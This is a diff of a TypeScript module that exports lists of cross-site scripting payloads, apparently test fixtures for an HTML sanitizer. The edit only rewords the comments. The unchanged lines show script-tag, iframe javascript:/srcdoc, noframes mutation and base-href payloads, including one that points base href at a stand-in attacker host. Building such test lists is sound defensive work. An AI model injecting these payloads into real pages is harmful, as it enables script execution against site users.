@@ -1,6 +1,6 @@
-/** Ways to have a script run by an element of its own, by a frame, or by what a page loads. */
+/** Scripts by their own element, a frame, or a resource. */
 
-/** Scripts as elements, well and badly written. */
+/** Script elements, well and badly written. */
 export const scriptElements: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT>alert(1)</SCRIPT>',
@@ -57,7 +57,7 @@ export const scriptElements: readonly string[] = [
   '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
 ];
 
-/** Frames, plug-ins and documents inside the document. */
+/** Frames, plug-ins and nested documents. */
 export const frames: readonly string[] = [
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
@@ -90,7 +90,7 @@ export const frames: readonly string[] = [
   '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
 ];
 
-/** Elements that change the page around them or fetch something. */
+/** Elements that change the page or fetch something. */
 export const pageElements: readonly string[] = [
   '<base href="javascript:/a/">',
   '<base href="//evil.example/">',
